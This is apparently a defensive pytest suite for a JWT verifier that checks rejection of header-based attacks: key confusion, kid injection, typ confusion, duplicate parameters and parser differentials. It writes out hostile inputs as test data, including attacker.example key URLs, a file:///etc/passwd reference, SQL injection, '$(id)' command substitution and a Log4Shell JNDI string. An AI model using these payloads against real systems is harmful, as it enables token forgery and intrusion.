"""Attacks through the protected header: RFC 7515 section 4, RFC 8725 sections 3.10 and 3.11."""

from __future__ import annotations

import pytest

from tests.attacks.jose import presented
from tests.wire.signing import CLAIMS, b64, compact_json, signer

ISSUER = signer("ES256")


@pytest.mark.parametrize(
    "extension",
    [
        {"http://example.com/require-mfa": True},
        {"exp": 1},
        {"cnf": {"jkt": "x"}},
        {"b64": False},
        {"b64": True},
        {"bork": "bork"},
    ],
)
def test_cve_2026_32597_and_cve_2025_59420_unknown_critical_extension(extension: dict[str, object]) -> None:
    assert presented(ISSUER.token(**extension, crit=list(extension)), ISSUER) == "critical_unknown"
    # The extension alone obliges to nothing, but for the payload that would not be what was signed.
    assert presented(ISSUER.token(**extension), ISSUER) == ("critical_unknown" if "b64" in extension else "accepted")


@pytest.mark.parametrize(
    "crit", [[], {}, "", "exp", 0, False, [""], ["alg"], ["exp", "exp"], ["absent"], [1], [None], [["exp"]]]
)
def test_rfc_7515_section_4_1_11_malformed_crit(crit: object) -> None:
    assert presented(ISSUER.token(exp=1, crit=crit), ISSUER) == "malformed"
    header = compact_json({"alg": "ES256", "kid": "key-1", "typ": "at+jwt", "crit": None})
    assert presented(ISSUER.seal(header, compact_json(CLAIMS)), ISSUER) == "malformed"


def test_rfc_7797_section_6_unencoded_payload() -> None:
    header = b64(compact_json({"alg": "ES256", "kid": "key-1", "typ": "at+jwt", "b64": False, "crit": ["b64"]}))
    signing_input = f"{header}.{compact_json(CLAIMS).decode()}"
    assert presented(f"{signing_input}.{b64(ISSUER.sign(signing_input.encode()))}", ISSUER) == "malformed"
    encoded = f"{header}.{b64(compact_json(CLAIMS))}"
    assert presented(f"{encoded}.{b64(ISSUER.sign(encoded.encode()))}", ISSUER) == "critical_unknown"


@pytest.mark.parametrize("kid", ["key-1", None, "attacker"])
def test_cve_2018_0114_key_in_the_header(kid: str | None) -> None:
    attacker = signer("ES256", kid="attacker")
    expected = {"key-1": "bad_signature", None: "bad_signature", "attacker": "unknown_key"}[kid]
    for parameters in (
        {"jwk": attacker.jwk},
        {"jwk": {**attacker.jwk, "kid": "key-1"}},
        {"jku": "https://attacker.example/jwks.json"},
        {"jku": "https://issuer.example@attacker.example/jwks.json"},
        {"x5u": "https://attacker.example/chain.pem"},
        {"x5c": ["MIIBszCCAVmgAwIBAgIUattacker"]},
        {"x5t": "AAAA", "x5t#S256": "AAAA"},
    ):
        assert presented(attacker.token(kid=kid, **parameters), ISSUER) == expected


def test_keys_in_the_header_of_a_good_token_change_nothing() -> None:
    # Nothing fetches them (the test run has no network to fetch from) and nothing trusts them.
    attacker = signer("ES256", kid="attacker")
    token = ISSUER.token(jwk=attacker.jwk, jku="https://attacker.example/jwks.json", x5u="file:///etc/passwd", x5c=[])
    assert presented(token, ISSUER) == "accepted"


@pytest.mark.parametrize(
    "kid",
    [
        "../../../../dev/null",
        "/dev/null",
        "file:///dev/null",
        "https://attacker.example/key",
        "key-1\x00.pem",
        "key-1' UNION SELECT 'secret",
        "key-1 ",
        " key-1",
        "KEY-1",
        "key-1\n",
        "\uff4bey-1",
        "__proto__",
        "__class__",
        "",
        "k" * 8000,
        "{{7*7}}",
        "$(id)",
        "${jndi:ldap://attacker.example}",
    ],
)
def test_kid_is_a_name_and_nothing_more(kid: str) -> None:
    assert presented(ISSUER.token(kid=kid), ISSUER) == "unknown_key"


@pytest.mark.parametrize("kid", [0, 1, True, 1.5, ["key-1"], {"key-1": 1}, [], {}])
def test_kid_of_another_type(kid: object) -> None:
    assert presented(ISSUER.token(kid=kid), ISSUER) == "malformed"


@pytest.mark.parametrize(
    "typ",
    [
        "JWT",
        "jwt",
        "logout+jwt",
        "secevent+jwt",
        "dpop+jwt",
        "token-introspection+jwt",
        "client-authentication+jwt",
        "JOSE",
        "at+jwt-ish",
        "rt+jwt",
        None,
    ],
)
def test_rfc_8725_section_3_11_token_of_another_kind(typ: str | None) -> None:
    assert presented(ISSUER.token(typ=typ), ISSUER) == "wrong_type"


@pytest.mark.parametrize(
    "header",
    [
        b'{"alg":"none","alg":"ES256","kid":"key-1","typ":"at+jwt"}',
        b'{"alg":"ES256","alg":"none","kid":"key-1","typ":"at+jwt"}',
        b'{"alg":"ES256","kid":"attacker","kid":"key-1","typ":"at+jwt"}',
        b'{"alg":"ES256","kid":"key-1","typ":"JWT","typ":"at+jwt"}',
        b'{"alg":"ES256","kid":"key-1","typ":"at+jwt","crit":["exp"],"exp":1,"crit":["exp"]}',
        b'{"alg":"ES256","\\u0061lg":"none","kid":"key-1","typ":"at+jwt"}',
        b'{"alg":"ES256","kid":"key-1","typ":"at+jwt","jwk":{"kty":"EC","kty":"oct"}}',
    ],
)
def test_rfc_7515_section_4_duplicate_parameters(header: bytes) -> None:
    assert presented(ISSUER.seal(header, compact_json(CLAIMS)), ISSUER) == "malformed"


GOOD_HEADER = b'{"alg":"ES256","kid":"key-1","typ":"at+jwt"}'


@pytest.mark.parametrize(
    ("header", "code"),
    [
        (GOOD_HEADER, "accepted"),
        (b" " + GOOD_HEADER + b"\n", "accepted"),
        (b"\xef\xbb\xbf" + GOOD_HEADER, "malformed"),
        (GOOD_HEADER.decode().encode("utf-16"), "malformed"),
        (GOOD_HEADER.decode().encode("utf-16-be"), "malformed"),
        (GOOD_HEADER.decode().encode("utf-32"), "malformed"),
        (GOOD_HEADER + b"{}", "malformed"),
        (GOOD_HEADER + b"\x00", "malformed"),
        (GOOD_HEADER[:-1], "malformed"),
        (GOOD_HEADER[:-1] + b",}", "malformed"),
        (GOOD_HEADER[:-1] + b',"x":NaN}', "malformed"),
        (GOOD_HEADER[:-1] + b',"x":-Infinity}', "malformed"),
        (GOOD_HEADER[:-1] + b',"x":"\\ud800"}', "malformed"),
        (GOOD_HEADER[:-1] + b',"x":"\xed\xa0\x80"}', "malformed"),
        (GOOD_HEADER[:-1] + b',"x":1e400}', "too_large"),
        (GOOD_HEADER[:-1] + b',"x":1' + b"0" * 400 + b"}", "too_large"),
        (GOOD_HEADER[:-1] + b',"x":' + b"[" * 2000 + b"]" * 2000 + b"}", "too_large"),
        (b"[" + GOOD_HEADER + b"]", "malformed"),
        (b"null", "malformed"),
        (b"", "malformed"),
    ],
)
def test_headers_that_two_parsers_might_read_differently(header: bytes, code: str) -> None:
    assert presented(ISSUER.seal(header, compact_json(CLAIMS)), ISSUER) == code
